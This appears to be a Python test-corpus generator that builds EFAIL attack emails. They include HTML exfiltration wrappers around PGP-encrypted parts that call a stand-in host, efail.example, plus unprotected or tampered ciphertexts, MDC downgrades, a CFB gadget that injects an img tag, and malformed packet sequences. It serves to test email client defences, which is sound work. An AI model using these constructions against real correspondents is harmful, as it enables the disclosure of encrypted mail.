"""EFAIL, after Poddebniak et al., "Efail: Breaking S/MIME and OpenPGP Email Encryption using Exfiltration
Channels" (USENIX Security 2018): what is decrypted must not flow into anything that an attacker put around
it, and what has no integrity protection must not be shown at all.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests.corpus.make.good import inline
from tests.corpus.make.letters import (
    crlf,
    forwarded,
    html,
    letter,
    multipart,
    pgp_encrypted,
    pgp_signed,
    text,
)
from tests.corpus.make.packets import (
    MARKER,
    SED,
    SEIPD,
    armor,
    compressed,
    dearmor,
    literal,
    old_packet,
    packet,
    sed,
    seipd,
    split_packets,
)
from tests.corpus.make.world import World

Made = Iterator[tuple[str, bytes]]

SECRET = "Topsecret: the harvest is under the oak."
INSIDE = text(SECRET)
HOST = "http://efail.example/"


def messages(world: World) -> Made:
    yield from _around_mime(world)
    yield from _around_inline(world)
    yield from _gadgets(world)
    yield from _packets(world)


def _around_mime(world: World) -> Made:
    """Direct exfiltration: an encrypted part between parts that open and close something."""
    sealed = pgp_encrypted(world.gpg.seal(INSIDE, "alice"))
    both = pgp_encrypted(world.gpg.seal(INSIDE, "alice", by="bob"))
    opening = {
        "img": (f'<img src="{HOST}', '">'),
        "img-unquoted": (f"<img src={HOST}", ">"),
        "link": (f'<a href="{HOST}?', '">click here</a>'),
        "style": (f'<style>body {{ background: url("{HOST}', '") }</style>'),
        "style-import": (f"<style>@import '{HOST}", "';</style>"),
        "form": (f'<form action="{HOST}"><textarea name="x">', '</textarea><input type="submit"></form>'),
        "base": (f'<base target="{HOST}', '">'),
        "iframe": (f'<iframe src="{HOST}', '"></iframe>'),
        "object": (f'<object data="{HOST}', '"></object>'),
        "meta": (f'<meta http-equiv="refresh" content="0; url={HOST}', '">'),
        "comment": ("<!--", "-->"),
        "video": (f'<video poster="{HOST}', '"></video>'),
        "srcset": (f'<img srcset="{HOST}', '">'),
        "svg": (f'<svg><image href="{HOST}', '"/></svg>'),
    }
    for name, (before, after) in opening.items():
        yield f"around-{name}", letter(multipart("mixed", html(before), sealed, html(after)))
    before, after = (html(each) for each in opening["img"])
    yield "around-signed", letter(multipart("mixed", before, both, after))
    yield "around-related", letter(multipart("related", before, sealed, after))
    by_id = html('<img src="cid:sealed@corpus.example"><iframe src="cid:sealed@corpus.example"></iframe>')
    named = crlf("Content-ID: <sealed@corpus.example>\n") + sealed
    yield "around-related-by-id", letter(multipart("related", by_id, named))
    yield "around-alternative", letter(multipart("alternative", before, sealed, after))
    yield "around-alternative-last", letter(multipart("alternative", sealed, html(f"<img src='{HOST}'>")))
    deep = multipart("mixed", before, multipart("mixed", sealed))
    yield "around-deep", letter(multipart("mixed", deep, after))
    yield "around-digest", letter(multipart("digest", before, sealed, after))
    yield "around-unknown-multipart", letter(multipart("x-unknown", before, sealed, after))
    attached = forwarded(letter(sealed))
    yield "around-forwarded", letter(multipart("mixed", before, attached, after))
    hostile = pgp_signed(multipart("mixed", before, sealed, after), b"no signature")
    yield "around-in-broken-signature", letter(hostile)
    whole = multipart("mixed", before, sealed, after)
    signed = pgp_signed(whole, world.gpg.detach(whole, "mallory"))
    yield "around-signed-by-the-attacker", letter(signed)
    signed = pgp_signed(whole, world.gpg.detach(whole, "carol"))
    yield "around-signed-by-somebody", letter(signed, sender="Carol <carol@corpus.example>")
    outer = pgp_encrypted(world.gpg.seal(multipart("mixed", before, sealed, after), "alice"))
    yield "around-inside-another-encryption", letter(outer)
    yield "parts-after", letter(pgp_encrypted(world.gpg.seal(INSIDE, "alice"), html(opening["img"][0])))
    control = crlf("Content-Type: application/pgp-encrypted\n\nVersion: 1\n")
    data = crlf("Content-Type: application/octet-stream\n\n") + crlf(world.gpg.seal(INSIDE, "alice"))
    protocol = '; protocol="application/pgp-encrypted"'
    yield "parts-before", letter(multipart("encrypted", before, control, data, parameters=protocol))
    yield "mangled-with-words", letter(multipart("mixed", before, control, data))


def _around_inline(world: World) -> Made:
    armored = world.gpg.seal(crlf(SECRET), "alice").decode()
    yield "inline-in-img", letter(html(f'<p>Hello</p><img src="{HOST}\n{armored}\n">'))
    yield "inline-in-link", letter(html(f'<a href="{HOST}?\n{armored}\n">here</a>'))
    yield "inline-in-style", letter(html(f'<style>b {{ background: url("{HOST}\n{armored}\n") }}</style>'))
    yield (
        "inline-in-textarea",
        letter(html(f'<form action="{HOST}"><textarea>\n{armored}\n</textarea></form>')),
    )
    yield "inline-in-hidden-div", letter(html(f'<p>Hello</p><div style="display:none">\n{armored}\n</div>'))
    before, after = html(f'<img src="{HOST}'), html('">')
    block = inline(armored.encode())
    yield "inline-between-html", letter(multipart("mixed", before, block, after))
    yield "inline-alternative", letter(multipart("alternative", block, html(f"<img src='{HOST}'>")))
    yield "inline-with-words-before", letter(text(f"Look at this:\n\n{armored}"))
    yield "inline-with-words-after", letter(text(f"{armored}\n-- \nA footer of the list\n"))
    yield "inline-quoted", letter(text("\n".join(f"> {line}" for line in armored.splitlines())))
    markdown = text(f"![x]({HOST}\n{armored}\n)")
    yield "inline-in-markdown", letter(markdown)


def _gadgets(world: World) -> Made:
    """Ciphertext that was changed, or never had integrity protection."""
    session, key = _session(world)
    whole = literal(INSIDE)
    unprotected = session + sed(key, whole)
    yield "no-mdc", letter(pgp_encrypted(armor(unprotected)))
    yield "no-mdc-compressed", letter(pgp_encrypted(armor(session + sed(key, compressed(whole)))))
    yield "no-mdc-inline", letter(inline(armor(session + sed(key, literal(SECRET.encode())))))
    yield "no-mdc-around-protected", letter(pgp_encrypted(armor(session + sed(key, unprotected))))
    yield "mdc-left-out", letter(pgp_encrypted(armor(session + seipd(key, whole, has_mdc=False))))
    protected = seipd(key, whole)
    ((_, _, body),) = split_packets(protected)
    for name, changed in {
        "mdc-wrong": body[:-1] + bytes([body[-1] ^ 1]),
        "mdc-cut": body[:-22],
        "mdc-cut-in-half": body[:-10],
        "first-block-changed": body[:20] + bytes([body[20] ^ 1]) + body[21:],
        "middle-changed": body[:60] + bytes([body[60] ^ 0xFF]) + body[61:],
        "blocks-swapped": body[:33] + body[49:65] + body[33:49] + body[65:],
        "block-left-out": body[:33] + body[49:],
        "block-twice": body[:49] + body[33:49] + body[49:],
        "gadget": _gadget(body, whole),
    }.items():
        yield f"changed-{name}", letter(pgp_encrypted(armor(session + packet(SEIPD, changed))))
    yield "downgraded", letter(pgp_encrypted(armor(session + packet(SED, body[1:]))))
    yield "downgraded-and-cut", letter(pgp_encrypted(armor(session + packet(SED, body[1:-22]))))
    yield "downgraded-inline", letter(inline(armor(session + packet(SED, body[1:]))))
    yield "downgraded-old-packet", letter(pgp_encrypted(armor(session + old_packet(SED, body[1:]))))


def _packets(world: World) -> Made:
    """What no grammar allows (RFC 9580 section 10.3), and what is not encrypted at all."""
    session, key = _session(world)
    whole, more = literal(INSIDE), literal(text("added by the attacker"))
    protected = seipd(key, whole)
    for name, packets in {
        "plain-literal": whole,
        "plain-compressed": compressed(whole),
        "literal-after": session + protected + more,
        "literal-before": more + session + protected,
        "two-messages": session + protected + session + seipd(key, more),
        "two-literals-inside": session + seipd(key, whole + more),
        "nothing-inside": session + seipd(key, b""),
        "marker-before": packet(MARKER, b"PGP") + session + protected,
        "version-2": session + packet(SEIPD, b"\x02\x09\x02\x06" + bytes(32) + bytes(80)),
        "version-99": session + packet(SEIPD, b"\x63" + bytes(80)),
        "without-session-key": protected,
        "only-session-key": session,
        "encrypted-twice": session + seipd(key, session + protected),
        "unprotected-inside-protected": session + seipd(key, session + sed(key, whole)),
    }.items():
        yield f"packets-{name}", letter(pgp_encrypted(armor(packets)))
    signed = world.gpg.block(INSIDE, "bob")
    yield "packets-signed-alone", letter(pgp_encrypted(signed))
    cut = armor(session + protected).split(b"\n")
    yield "armor-cut", letter(pgp_encrypted(b"\n".join(cut[: len(cut) // 2])))
    yield "armor-empty", letter(pgp_encrypted(b"-----BEGIN PGP MESSAGE-----\n\n-----END PGP MESSAGE-----\n"))
    yield "data-empty", letter(pgp_encrypted(b""))
    yield "data-is-a-key", letter(pgp_encrypted(armor(b"\x98\x33\x04" + bytes(50), "PUBLIC KEY BLOCK")))
    yield "data-is-text", letter(pgp_encrypted(b"Content-Type: text/plain\n\nnot encrypted at all"))


def _session(world: World) -> tuple[bytes, bytes]:
    """(a packet that gives Alice the session key, that key)."""
    sealed = world.gpg.seal(b"", "alice")
    (_, session, _), *_ = split_packets(dearmor(sealed))
    return session, world.gpg.session_key(sealed)


def _gadget(body: bytes, known: bytes) -> bytes:
    """Section 4 of the paper: a block whose text is known is changed so that it says what is wanted.

    body: of a SEIPD packet; known: its packets. The first whole block after the prefix is replaced.
    """
    wanted = b'<img src="//efa/'
    begin = 1 + 32  # version, then two blocks: the prefix and its repetition lie in the first of them
    block = known[begin - 1 - 18 : begin - 1 - 18 + 16]
    change = bytes(a ^ b for a, b in zip(block, wanted, strict=True))
    changed = bytes(a ^ b for a, b in zip(body[begin : begin + 16], change, strict=True))
    return body[:begin] + changed + body[begin + 16 :]
